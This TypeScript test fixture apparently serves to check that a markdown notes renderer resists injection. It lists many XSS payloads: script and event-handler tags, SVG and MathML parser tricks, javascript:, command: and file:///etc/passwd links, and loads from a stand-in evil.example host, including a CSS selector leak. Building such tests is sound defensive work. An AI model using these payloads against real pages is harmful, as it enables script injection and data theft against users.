/** One way in which a note may try to be more than text. */
export interface Payload {
  readonly name: string;
  /** Stands behind the payload wherever it is written, so that a page can be asked whether it arrived. */
  readonly mark: string;
  /** Markdown of one line or more. */
  readonly text: string;
  /** The same for a place that holds a value and no markdown; of one line or more. */
  readonly value: string;
  /** Whether it may hide what is written behind it in the same note. */
  readonly swallows?: boolean;
}

/** Where a request goes that should never be made. */
export const evilHost = 'evil.example';

/**
 * In each payload RUN stands for a call that reports that it ran, EVIL for an address that reports that it was asked
 * for. Both say which payload it was.
 */
const elements: readonly (readonly [name: string, text: string])[] = [
  ['a script', '<script>RUN</script>'],
  ['a script in capitals, with blanks', '<SCRIPT\t>RUN</SCRIPT\n>'],
  ['a script from elsewhere', '<script src=EVIL/x.js></script>'],
  ['a script from elsewhere, without scheme', '<script src="//evil.example/x.js" async></script>'],
  ['a script of modules', '<script type="module">import "EVIL/x.js"; RUN</script>'],
  ['a script with an import map', '<script type="importmap">{"imports":{"x":"EVIL/x.js"}}</script>'],
  ['a script inside a script', '<scr<script>ipt>RUN</scr</script>ipt>'],
  ['a script that is not closed', '<script>RUN//'],
  ['a script with a slash for a blank', '<script/x>RUN</script>'],
  ['a picture that fails', '<img src=x onerror=RUN>'],
  ['a picture that fails, with slashes', '<img/src=x/onerror=RUN>'],
  ['a picture that fails, in quotes', '<img src="x" onerror="RUN" alt="">'],
  ['a picture that fails, in backticks', '<img src=`x` onerror=`RUN`>'],
  ['a picture that fails, with an entity', '<img src=x onerror=&#95;&#95;canary(NUMBER)>'],
  ['a picture that fails, with no end', '<img src=x onerror=RUN //'],
  ['a picture that is counted', '<img src="EVIL/pixel.gif" width=1 height=1>'],
  ['pictures to choose from', '<picture><source srcset="EVIL/a 1x, EVIL/b 2x"><img srcset="EVIL/c 1x"></picture>'],
  ['a picture by its old name', '<image src=x onerror=RUN>'],
  ['a drawing', '<svg onload=RUN>'],
  ['a drawing with a slash', '<svg/onload=RUN//'],
  ['a drawing with a script', '<svg><script>RUN</script></svg>'],
  ['a drawing with a script elsewhere', '<svg><script xlink:href="EVIL/x.js"/></svg>'],
  ['a drawing that moves', '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>'],
  ['a drawing that makes a link', '<svg><a><set attributeName=href to="javascript:RUN"/><text>x</text></a></svg>'],
  ['a drawing that uses another', '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN />#x"/></svg>'],
  ['a drawing with HTML in it', '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>'],
  ['a drawing with a style', '<svg><style>@import "EVIL/a.css"; <img src=x onerror=RUN></style></svg>'],
  ['a drawing with a picture', '<svg><image href="EVIL/pixel.svg" onerror=RUN /></svg>'],
  ['a formula', '<math><mtext><style><img src=x onerror=RUN></style></mtext></math>'],
  ['a formula with a link', '<math><a xlink:href="javascript:RUN">x</a><mi href="javascript:RUN">y</mi></math>'],
  [
    'a formula that changes when it is read again',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  ],
  ['a form in a form, in a formula', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>'],
  [
    'a list in a drawing that changes when it is read again',
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  ],
  ['a text that is not parsed', '<noscript><p title="</noscript><img src=x onerror=RUN>">'],
  ['a text that is not parsed, by its old names', '<xmp><p title="</xmp><img src=x onerror=RUN>"><plaintext>'],
  ['a title that is closed early', '</title><script>RUN</script>'],
  ['a style that is closed early', '</style><script>RUN</script>'],
  ['a text area that is closed early', '<textarea></textarea><img src=x onerror=RUN><textarea>'],
  ['a main that is closed early', '</main></body></html><script>RUN</script>'],
  ['a list that is closed early', '</span></div></li></ul><img src=x onerror=RUN>'],
  ['a select that is closed early', '</option></select><img src=x onerror=RUN>'],
  ['a frame', '<iframe src="javascript:parent.RUN"></iframe>'],
  ['a frame with its own document', '<iframe srcdoc="<script>parent.RUN</script>"></iframe>'],
  ['a frame with an escaped document', '<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>'],
  ['a frame of another site', '<iframe src=EVIL/ onload=RUN></iframe>'],
  ['frames', '<frameset onload=RUN><frame src="javascript:parent.RUN"></frameset>'],
  ['an object', '<object data="javascript:RUN" onerror=RUN></object>'],
  ['an object with a page', '<object type="text/html" data="data:text/html,<script>parent.RUN</script>"></object>'],
  ['an embedded page', '<embed src="javascript:RUN"><embed src=EVIL/x.swf>'],
  ['a program', '<applet code="EVIL/x.class"></applet>'],
  ['a film', '<video src=EVIL/a.mp4 poster=EVIL/a.png onerror=RUN autoplay></video>'],
  ['the sources of a film', '<video><source onerror=RUN src=EVIL/b.mp4><track src=EVIL/c.vtt default></video>'],
  ['a sound', '<audio src=x onerror=RUN autoplay>'],
  ['a form', '<form action=EVIL/ onsubmit=RUN><button>Go</button><input name=x autofocus onfocus=RUN></form>'],
  ['a button of a form elsewhere', '<button formaction="javascript:RUN" form=x>Go</button><isindex action=EVIL/>'],
  ['a field that takes the focus', '<input autofocus onfocus=RUN><select autofocus onfocus=RUN></select>'],
  ['a piece that opens itself', '<details open ontoggle=RUN><summary onclick=RUN>x</summary></details>'],
  ['a dialog', '<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>'],
  ['a popover', '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=RUN>y</div>'],
  ['a text that walks', '<marquee onstart=RUN loop=1 behavior=alternate>x</marquee>'],
  ['a movement that ends', '<p style="animation: x 1ms" onanimationend=RUN>x</p><style>@keyframes x{}</style>'],
  ['a body', '<body onload=RUN onpageshow=RUN background=EVIL/a.png>'],
  ['a document of its own', '<!DOCTYPE html><html manifest=EVIL/m><head><script>RUN</script></head></html>'],
  ['another base', '<base href="EVIL/" target=_top>'],
  ['going elsewhere', '<meta http-equiv="refresh" content="0; url=EVIL/">'],
  ['going to a script', '<meta http-equiv=refresh content="0;url=javascript:RUN">'],
  ['another policy', '<meta http-equiv="Content-Security-Policy" content="script-src *; report-uri EVIL/">'],
  ['a style sheet', '<link rel=stylesheet href=EVIL/a.css onload=RUN onerror=RUN>'],
  ['what a page asks for ahead', '<link rel=preload as=image href=EVIL/a.png><link rel=dns-prefetch href=EVIL/>'],
  [
    'a style that imports',
    '<style>@import url(EVIL/a.css); @font-face { font-family: x; src: url(EVIL/a.woff) }</style>',
  ],
  ['a style with a picture', '<p style="background:url(EVIL/a.png);position:fixed;inset:0">x</p>'],
  ['a style that spies', '<style>[data-path^="/"] { background: url(EVIL/slash) } * { display: none }</style>'],
  [
    'a template',
    '<template><img src=x onerror=RUN></template><template shadowrootmode=open><script>RUN</script></template>',
  ],
  ['an element of its own', '<x-y is=script onclick=RUN contenteditable autofocus onfocus=RUN>x</x-y>'],
  ['a map', '<map name=m><area href="javascript:RUN" shape=default></map><img usemap=#m src=x>'],
  ['a link with a ping', '<a href="https://ok.example/" ping=EVIL/ target=_blank onclick=RUN>x</a>'],
  [
    'a name that hides the document',
    '<img name=body><img name=getElementById><form name=cookie><input name=attributes></form>',
  ],
  [
    'a name that hides the API',
    '<a id=acquireVsCodeApi></a><a id=defaultView href=EVIL/></a><form id=vscode name=status></form>',
  ],
  ['an id that is taken', '<p id=block-panel>x</p><main role=status id=main>y</main><h1>z</h1>'],
  ['a name of a prototype', '<p id=__proto__ data-path=constructor>x</p> {{constructor.constructor("RUN")()}} ${RUN}'],
  ['a broken nesting', '<b><p><table><a href="javascript:RUN"><tr><td><svg></b><img src=x onerror=RUN>'],
];

const attributes: readonly (readonly [name: string, text: string])[] = [
  ['a double quote', '" onmouseover="RUN" autofocus onfocus="RUN" x="'],
  ['a single quote', "' onmouseover='RUN' autofocus onfocus='RUN' x='"],
  ['a double quote and an end', '"><img src=x onerror=RUN>'],
  ['a single quote and an end', "'><img src=x onerror=RUN>"],
  ['a quote as an entity', '&quot; onclick=&quot;RUN&quot; &#34;&#x22;&apos;&#39; onclick=RUN'],
  ['tags as entities', '&lt;script&gt;RUN&lt;/script&gt; &#60;img src=x onerror=RUN&#62;'],
  ['tags as entities of entities', '&amp;lt;img src=x onerror=RUN&amp;gt; &amp;#60;script>RUN</script>'],
  ['tags as entities without an end', '&ltscript&gtRUN&lt/script&gt &#60script>RUN'],
  ['tags as percent signs', '%3Cscript%3ERUN%3C/script%3E %22 onclick=%22RUN'],
  ['tags as escapes', '\\u003cscript\\u003eRUN\\u003c/script\\u003e \\x3cimg src=x onerror=RUN\\x3e'],
  ['tags in wide letters', '＜script＞RUN＜/script＞ ﹤img src=x onerror=RUN﹥'],
  ['the title of a link', '[x](https://ok.example/ "\\" onmouseover=\\"RUN\\" x=\\"")'],
  ['the title of a link, in single quotes', "[x](https://ok.example/ '\"><img src=x onerror=RUN>')"],
  ['the title of a link, in brackets', '[x](https://ok.example/ (" onfocus="RUN" autofocus="))'],
  ['the address of a link', '[x](https://ok.example/"onmouseover="RUN)'],
  ['the address of a link, in angle brackets', '[x](<https://ok.example/" onmouseover="RUN" x=">)'],
  ['the text of a link', '[<img src=x onerror=RUN>](https://ok.example/)'],
  ['the stand-in of a picture', '![<img src=x onerror=RUN>" onerror="RUN](https://ok.example/x.png)'],
  ['the language of a code block', '```"><img/src=x/onerror=RUN>\ncode\n```\nx'],
  ['a code span', '`</code><script>RUN</script>` ``<img src=x onerror=RUN>``'],
  ['a table', '| <img src=x onerror=RUN> | x |\n|:-" onclick="RUN|---|\n| </td><script>RUN</script> | y |'],
  ['a quotation', '> <script>RUN</script>'],
];

const comments: readonly (readonly [name: string, text: string])[] = [
  ['a comment with an end in it', '<!-- --><script>RUN</script>'],
  ['a comment that is empty', '<!--><script>RUN</script>-->'],
  ['a comment that is all dashes', '<!---><img src=x onerror=RUN>--->'],
  ['a comment with another end', '<!-- --!><script>RUN</script> -->'],
  ['a comment that is not closed, behind a word', 'x <!-- <img src=x onerror=RUN>'],
  ['a comment with another end, not closed, behind a word', 'x <!-- --!><img src=x onerror=RUN>'],
  ['a comment in a comment', '<!-- <!-- --> <img src=x onerror=RUN> -->'],
  ['a comment over lines', '<!--\n--><script>RUN</script><!--\n--> <img src=x onerror=RUN>'],
  ['a comment that hides half a tag', '<scr<!-- -->ipt>RUN</scr<!-- -->ipt> <img <!-- --> src=x onerror=RUN>'],
  ['a comment that hides half a link', '[x](java<!-- -->script:RUN) [y](com<!-- -->mand:workbench.action.quit)'],
  ['a comment of a browser long gone', '<!--[if IE]><script>RUN</script><![endif]-->'],
  ['a part that is not parsed', '<![CDATA[<script>RUN</script>]]>'],
  ['a part that is not parsed, in a drawing', '<svg><![CDATA[><img src=x onerror=RUN>]]></svg>'],
  ['an instruction', '<?xml-stylesheet href="EVIL/a.xsl"?><?php <script>RUN</script> ?>'],
  ['a declaration', '<!ELEMENT x><!ENTITY x SYSTEM "EVIL/x"> &x;'],
  ['an end without a name', '</ ><img src=x onerror=RUN> <//><script>RUN</script>'],
];

/** A reader that takes them apart one way, and a page that does so another way, is how text becomes code. */
const characters: readonly (readonly [name: string, text: string])[] = [
  ['NUL', '<scr\0ipt>RUN</scr\0ipt><img\0src=x onerror=RUN>'],
  ['a mark of byte order', '\uFEFF<script>RUN</script><\uFEFFimg src=x onerror=RUN>'],
  ['another line end', '<img\u2028src=x\u2029onerror=RUN> <img\u0085src=x\u000Bonerror=RUN> <img\fsrc=x\fonerror=RUN>'],
  ['text from right to left', '\u202Etpircs<>RUN\u202C <\u200Fimg src=x onerror=RUN> \u2066\u2067'],
  ['marks of direction that are not closed', '\u202E\u202D\u2067\u2066\u2068 gnp.exe <b>x'],
  ['letters of no width', '<\u200Bscript>RUN</script> <s\u00ADcript>RUN</script> \u200D\uFE0F'],
  ['half a letter', '\uD83D<img src=x onerror=RUN>\uDE00'],
  ['letters that fold', '<ſcript>RUN</ſcript> <ıframe srcdoc="<script>parent.RUN</script>"> ᏼ ﬃ'],
  ['control characters', '\u0001<img\u0001src=x\u001Fonerror=RUN>\u007F\u0080\u009F \u001b]0;x\u0007'],
  ['signs for icons', '$(alert) $(bug~spin) <span class="codicon codicon-bug" style="color:red">x</span>'],
  ['placeholders', '{0} {1} {{x}} %s %o $& $1 $` \\1 <%= RUN %> #{RUN}'],
  ['a very long word', `${'A'.repeat(4000)}<img src=x onerror=RUN>`],
  ['very many tags', `${'<b>'.repeat(800)}<img src=x onerror=RUN>`],
  ['very many entities', '&lt;'.repeat(2000)],
  ['very deep brackets', `${'['.repeat(200)}x${'](javascript:RUN)'.repeat(200)}`],
  ['very deep quotations', `${'> '.repeat(200)}<img src=x onerror=RUN>`],
  ['very many stars', `${'*_~`'.repeat(500)}<img src=x onerror=RUN>${'`~_*'.repeat(500)}`],
];

/** Links of more than one piece. */
const links: readonly (readonly [name: string, text: string])[] = [
  ['a picture in a link', '[![x](javascript:RUN "RUN")](javascript:RUN)'],
  ['a link in a link', '[x [y](javascript:RUN)](command:workbench.action.quit)'],
  ['a link in a picture', '![x [y](javascript:RUN)](EVIL/a.png)'],
  ['a picture from elsewhere', '![x](EVIL/a.png) ![y](//evil.example/b.png "t") ![z](<EVIL/c.svg>)'],
  ['a picture that is a drawing', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['a definition', '[x][r] [r] [r][]\n\n[r]: javascript:RUN "t"'],
  ['a definition in angle brackets', '[x][s]\n\n[s]: <command:workbench.action.quit> \'" onclick="RUN\''],
  ['a definition over lines', '[x][t] ![t]\n\n[t]:\n  java&#10;script:RUN\n  "title"'],
  ['a definition of a name of ours', '[__proto__] [constructor] [x]\n\n[__proto__]: javascript:RUN\n[x]: vbscript:RUN'],
  ['an attribute in braces', '[x](https://ok.example/){onclick=RUN href=javascript:RUN} {.x onclick="RUN"}'],
  [
    'an address by itself',
    '<javascript:RUN> <command:workbench.action.quit> <vscode://evil.evil/x> <data:text/html,x>',
  ],
  ['an address in a sentence', 'javascript:RUN command:workbench.action.quit www.evil.example EVIL/a'],
];

/** Where a link must not lead, however it is written. */
const addresses: readonly string[] = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  'java&#10;script:RUN',
  'java&Tab;script&colon;RUN',
  '&#106;&#97;&#118;&#97;script&#58;RUN',
  '&#x6A&#x61&#x76&#x61&#x73cript:RUN',
  '%6a%61vascript:RUN',
  'javascript%3aRUN',
  'java%0d%0ascript:RUN',
  '\u0001\u0000javascript:RUN',
  '\u00a0\u2003javascript:RUN',
  'javascript\\:RUN',
  'javascript://ok.example/%0aRUN',
  'https://ok.example/"onmouseover="RUN"x="',
  "https://ok.example/'><img/src=x/onerror=RUN>",
  'https://ok.example/&quot;onfocus=&quot;RUN',
  'https:javascript:RUN',
  'http://javascript:RUN@ok.example/"style="background:url(EVIL/a)',
  'x:javascript:RUN',
  'view-source:javascript:RUN',
  'feed:javascript:RUN',
  'vbscript:RUN',
  'livescript:RUN',
  'command:workbench.action.terminal.new',
  'COMMAND:workbench.action.quit',
  '%63ommand:workbench.action.quit',
  '&#99;ommand:workbench.action.quit',
  'com&#x09;mand:workbench.action.quit',
  'command&colon;workbench.action.quit?%5B%22x%22%5D',
  'vscode:extension/evil.evil',
  'vscode-insiders://evil.evil/x',
  'VSCode://vscode.git/clone?url=EVIL/x.git',
  'vscode-file://vscode-app/etc/passwd',
  'vscode-resource:/etc/passwd',
  'vscode-webview://x/index.html',
  'code-oss://evil.evil/x',
  'data:text/html,<script>parent.RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=RUN>',
  'DATA:application/xhtml+xml,<x/>',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'file:///etc/passwd',
  'file://evil.example/share/x',
  '//evil.example/x',
  '///evil.example/x',
  '\\\\evil.example\\share',
  '/\\evil.example/x',
  '%2f%2fevil.example/x',
  '&#47;&#47;evil.example/x',
  '/\t/evil.example/x',
  'smb://evil.example/x',
  'ms-msdt:/id x',
  'search-ms:query=x&crumb=location:\\\\evil.example',
  'about:srcdoc',
  'ftp://evil.example/x',
  'tel:+1<script>RUN</script>',
];

/** Those that hide what is written behind them: they stand at the end. */
const swallowing: readonly (readonly [name: string, text: string])[] = [
  ['a comment with another end, not closed', '<!-- --!><img src=x onerror=RUN>'],
  ['a comment that is not closed', '<!-- <img src=x onerror=RUN>'],
  ['a code block that is not closed', '~~~ "><img src=x onerror=RUN>\n<script>RUN</script>'],
  ['a heading', '## <img src=x onerror=RUN> " onclick="RUN'],
  [
    'very deep lists',
    `x${Array.from({ length: 60 }, (_, depth) => `\n${'  '.repeat(depth)}- <svg onload=RUN>`).join('')}`,
  ],
];

function written(text: string, number: number): string {
  return text
    .replaceAll('RUN', `__canary(${number})`)
    .replaceAll('NUMBER', String(number))
    .replaceAll('EVIL', `https://${evilHost}/${number}`);
}

/** Every way of writing a link to the address, one beside the other. */
function linksTo(address: string): string {
  const oneLine = address.replace(/\n/g, '&#10;');
  return [
    `[a](${oneLine})`,
    `[b](<${oneLine}>)`,
    `[c](${oneLine} "title")`,
    `<${oneLine}>`,
    `![d](${oneLine})`,
    `[![e](${oneLine})](${oneLine})`,
    `**[*f*](${oneLine})**`,
    `\`[g](${oneLine})\``,
    `[h](${address})`,
    `<a href="${oneLine}">i</a>`,
    oneLine,
  ].join(' ');
}

const kinds: readonly (readonly [kind: string, payloads: readonly (readonly [string, string])[]])[] = [
  ['element', elements],
  ['attribute', attributes],
  ['comment', comments],
  ['character', characters],
  ['link', links],
];

/** All that is tried, each by itself and all of it together. */
export const payloads: readonly Payload[] = [
  ...kinds.flatMap(([kind, list]) => list.map(([name, text]) => ({ name: `${kind}: ${name}`, text, value: text }))),
  ...addresses.map((value) => ({ name: `address: ${JSON.stringify(value)}`, text: linksTo(value), value })),
  ...swallowing.map(([name, text]) => ({ name: `open end: ${name}`, text, value: text, swallows: true })),
].map(({ name, text, value, ...rest }, number) => ({
  ...rest,
  name,
  mark: `mark${number}x`,
  text: written(text, number),
  value: written(value, number),
}));

/** What notes are meant to hold, with every mark of markdown that a line may have. */
export const harmless: readonly Payload[] = [
  'A word',
  '**strong**, *stressed*, ~~struck~~ and `code`',
  '[a page](https://ok.example/a) and [a mail](mailto:dana@ok.example)',
  '[a note](8-salary.md)',
  'one line  \nand the next',
  '\u05D0\u05D1\u05D2 \u0627\u0644',
  'https://ok.example/call',
].map((text, number) => ({ name: text, mark: `plain${number}x`, text, value: text }));
